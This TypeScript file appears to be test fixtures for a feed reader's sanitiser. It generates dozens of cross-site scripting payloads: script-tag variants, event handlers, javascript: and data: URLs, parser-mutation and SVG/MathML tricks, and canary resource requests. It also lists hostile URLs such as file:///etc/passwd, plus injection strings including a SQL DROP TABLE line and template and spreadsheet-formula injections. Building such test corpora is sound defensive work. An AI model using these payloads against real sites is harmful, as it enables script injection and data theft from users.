/** Markup and addresses by which a feed may try to run script in a reader's browser, or make it ask somebody. */

/** Shapes: each calls `fire('<its name>')` or asks the canary if a browser takes it seriously. */
export type Payload = { readonly name: string; readonly html: string };

/** Shapes: `canary` is an origin that nobody may ask. */
export function htmlPayloads(canary: string): readonly Payload[] {
  const payloads: Payload[] = [];
  const add = (family: string, make: (fire: string, name: string) => string) => {
    // Without a space, so that it may stand in an attribute without quotes.
    const name = `${family.replaceAll(' ', '-')}-${payloads.length}`;
    payloads.push({ name, html: make(`top.fire('${name}')`, name) });
  };
  for (const family of ['script', 'SCRIPT', 'scr\u0000ipt', 'script/x', 'script\n', 'svg:script'])
    add('script', (fire) => `<${family}>${fire}</${family.split(/[/\n]/)[0]}>`);
  add('script from elsewhere', () => `<script src="${canary}/s.js"></script>`);
  add('script from elsewhere', () => `<script src=//${canary.slice(7)}/s.js></script>`);
  add('script in script', (fire) => `<scr<script>ipt>${fire}</scr</script>ipt>`);
  add('script without an end', (fire) => `<script>${fire}//`);
  add('script in CDATA', (fire) => `<![CDATA[<script>${fire}</script>]]>`);
  add('script after a comment', (fire) => `<!--><script>${fire}</script>-->`);
  add('script after a comment', (fire) => `<!-- --!><script>${fire}</script>-->`);
  add('script as entities', (fire) => `&lt;script&gt;${fire}&lt;/script&gt;`);
  add('script as entities', (fire) => `&#60;img src=x onerror=${fire}&#62;`);
  add('script as entities without an end', (fire) => `&#x3cimg src=x onerror="${fire}"&#x3e`);
  for (const [tag, event] of [
    ['img src=x', 'onerror'],
    ['img src=x', 'oNeRrOr'],
    ['img/src=x', '/onerror'],
    ['IMG """><img src=x', 'onerror'],
    ['img src=x title="a"b', 'onerror'],
    ['image src=x', 'onerror'],
    ['body', 'onload'],
    ['svg', 'onload'],
    ['svg/', 'onload'],
    ['svg><animate attributeName=x dur=1s', 'onbegin'],
    ['svg><image href=x', 'onerror'],
    ['input autofocus', 'onfocus'],
    ['select autofocus', 'onfocus'],
    ['textarea autofocus', 'onfocus'],
    ['a id=x tabindex=1', 'onfocus'],
    ['details open', 'ontoggle'],
    ['video><source', 'onerror'],
    ['audio src=x', 'onerror'],
    ['object data=x', 'onerror'],
    ['embed src=x', 'onload'],
    ['iframe', 'onload'],
    ['link rel=stylesheet href=x', 'onerror'],
    ['style', 'onload'],
    ['marquee', 'onstart'],
    ['div style="animation:x 1s"', 'onanimationstart'],
    ['p', 'onmouseover'],
    ['math><mtext', 'onclick'],
    ['xss style=display:block;transition:0.1s', 'ontransitionend'],
  ] as const)
    add('event', (fire) => `<${tag} ${event}="${fire}">x`);
  for (const scheme of [
    'javascript:',
    'JaVaScRiPt:',
    ' javascript:',
    'java\tscript:',
    'java\nscript:',
    'java&#9;script:',
    'java&Tab;script:',
    '&#106;avascript:',
    'javascript&colon;',
    '\u0001javascript:',
    'javascript\u0000:',
    'vbscript:',
    'livescript:',
    'view-source:javascript:',
  ])
    add('address', (fire) => `<a class=click href="${scheme}${fire}">x</a>`);
  add('address', (fire) => `<a class=click href="data:text/html,<script>${fire}</script>">x</a>`);
  add('address', (fire) => `<iframe src="javascript:${fire}"></iframe>`);
  add('address', (fire) => `<iframe srcdoc="<script>${fire}</script>"></iframe>`);
  add('address', (fire) => `<object data="data:text/html,<script>${fire}</script>"></object>`);
  add('address', (fire) => `<embed src="data:text/html;base64,${btoa(`<script>${fire}</script>`)}">`);
  add('address', (fire) => `<form action="javascript:${fire}"><button class=click>x</button></form>`);
  add('address', (fire) => `<form><button class=click formaction="javascript:${fire}">x</button></form>`);
  add('address', (fire) => `<svg><a href="javascript:${fire}"><text class=click y=20>x</text></a></svg>`);
  add('address', (fire) => `<math><mtext><a class=click href="javascript:${fire}">x</a></mtext></math>`);
  add('base', () => `<base href="${canary}/"><img src=a.png>`);
  add('refresh', (fire) => `<meta http-equiv=refresh content="0;url=javascript:${fire}">`);
  add('refresh', () => `<meta http-equiv=refresh content="0;url=${canary}/">`);
  // Markup that a parser writes back as something else (mutation).
  add('mutation', (fire) => `<noscript><p title="</noscript><img src=x onerror=${fire}>"></noscript>`);
  add(
    'mutation',
    (fire) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${fire}&gt;">`,
  );
  add(
    'mutation',
    (fire) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${fire}">`,
  );
  add('mutation', (fire) => `<svg></p><style><a id="</style><img src=x onerror=${fire}>">`);
  add('mutation', (fire) => `<svg><style><![CDATA[</style><img src=x onerror="${fire}">]]></style></svg>`);
  add('mutation', (fire) => `<svg><desc><noscript></desc><img src=x onerror="${fire}"></noscript></svg>`);
  add(
    'mutation',
    (fire) =>
      `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src=y onerror='${fire}'>">`,
  );
  add(
    'mutation',
    (fire) =>
      `<table><td><math><annotation-xml encoding="text/html"><style></td><img src=x onerror="${fire}"></style>`,
  );
  add('mutation', (fire) => `<xmp><p title="</xmp><img src=x onerror=${fire}>"></xmp>`);
  add('mutation', (fire) => `<listing>&lt;img src=x onerror="${fire}"&gt;</listing>`);
  add('mutation', (fire) => `<textarea><p title="</textarea><img src=x onerror=${fire}>"></textarea>`);
  add('mutation', (fire) => `<title><p title="</title><img src=x onerror=${fire}>"></title>`);
  add('mutation', (fire) => `<iframe><p title="</iframe><img src=x onerror=${fire}>"></iframe>`);
  add('mutation', (fire) => `<noembed><p title="</noembed><img src=x onerror=${fire}>"></noembed>`);
  add('mutation', (fire) => `<noframes><p title="</noframes><img src=x onerror=${fire}>"></noframes>`);
  add('mutation', (fire) => `<plaintext><img src=x onerror="${fire}">`);
  add('mutation', (fire) => `<a title="\`<img src=x onerror=${fire}>\`">x</a>`);
  add('mutation', (fire) => `${'<div>'.repeat(600)}<table><caption><img src=x onerror="${fire}">`);
  add(
    'foreign',
    (fire) => `<svg><foreignObject><iframe srcdoc="<script>${fire}</script>"></foreignObject></svg>`,
  );
  add('foreign', (fire) => `<svg><script>${fire.replaceAll("'", '&apos;')}</script></svg>`);
  add(
    'foreign',
    (fire) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${fire}'/></svg>#x"></svg>`,
  );
  add('foreign', (fire) => `<svg><set attributeName=href to="javascript:${fire}"/></svg>`);
  add('foreign', (fire) => `<math href="javascript:${fire}" class=click>x</math>`);
  add('foreign', (fire) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${fire}</x:script>`);
  add(
    'template',
    (fire) =>
      `<template><script>${fire}</script></template><div><template shadowrootmode=open><script>${fire}</script></template></div>`,
  );
  for (const tag of [
    'img src',
    'img srcset',
    'input type=image src',
    'video poster',
    'audio src autoplay',
    'link rel=stylesheet href',
    'link rel=prefetch href',
    'iframe src',
    'embed src',
    'object data',
    'body background',
    'table background',
    'svg><image href',
    'svg><use href',
    'track src',
  ])
    add('asks', (_fire, name) => `<${tag}="${canary}/${encodeURIComponent(name)}">`);
  add(
    'asks',
    () => `<style>@import "${canary}/a.css"; body { background: url(${canary}/b.png) }</style><p>x`,
  );
  add('asks', () => `<p style="background: url(${canary}/c.png)">x</p>`);
  add('asks', () => `<div style="position:fixed;inset:0;background:url('${canary}/d.png')">x</div>`);
  add(
    'clobbers',
    (fire) => `<form id=fire><input name=x></form><a id=top name=fire href="javascript:${fire}">x</a>`,
  );
  return payloads;
}

/** Addresses that must never become the address of a story or a picture. */
export const badAddresses: readonly string[] = [
  'javascript:top.fire(1)',
  'JAVASCRIPT:top.fire(1)',
  ' javascript:top.fire(1)',
  'java\tscript:top.fire(1)',
  'java\nscript:top.fire(1)',
  '\u0001javascript:top.fire(1)',
  'javascript://example.org/%0atop.fire(1)',
  'data:text/html,<script>top.fire(1)</script>',
  'data:image/svg+xml,<svg onload="top.fire(1)"/>',
  'vbscript:top.fire(1)',
  'blob:https://example.org/1',
  'file:///etc/passwd',
  'filesystem:https://example.org/temporary/x.html',
  'about:blank',
  'mailto:someone@example.org',
  'tel:+441234567890',
  'ftp://example.org/x',
  'view-source:https://example.org/',
  'intent://example.org#Intent;scheme=http;end',
  'https://user:pass@example.org/',
  'https://example.org/" onmouseover="top.fire(1)',
  "https://example.org/' onmouseover='top.fire(1)",
  'https://example.org/<script>top.fire(1)</script>',
  'https://example.org/\u0000javascript:top.fire(1)',
  'https:javascript:top.fire(1)',
  '//',
  'http://',
  'https://[::1',
  `https://example.org/${'a'.repeat(100_000)}`,
];

/** Text that hides, turns round or breaks what stands beside it. */
export const oddTexts: readonly string[] = [
  '\u202Egnihtyna\u202C \u2066isolated',
  'a\u0000b\u0001c\u001b[31mred',
  '\ud800 alone \udfff',
  '\ufeff\ufffe\uffff',
  '{{constructor.constructor("top.fire(1)")()}}',
  '${top.fire(1)}',
  '<%= top.fire(1) %>',
  ']]><script>top.fire(1)</script>',
  '--><script>top.fire(1)</script>',
  '"><script>top.fire(1)</script>',
  "'; DROP TABLE story; --",
  '=HYPERLINK("http://example.org","x")',
  '\u2028\u2029',
  'e' + '\u0301'.repeat(5_000),
  '&amp;lt;script&amp;gt;top.fire(1)&amp;lt;/script&amp;gt;',
];
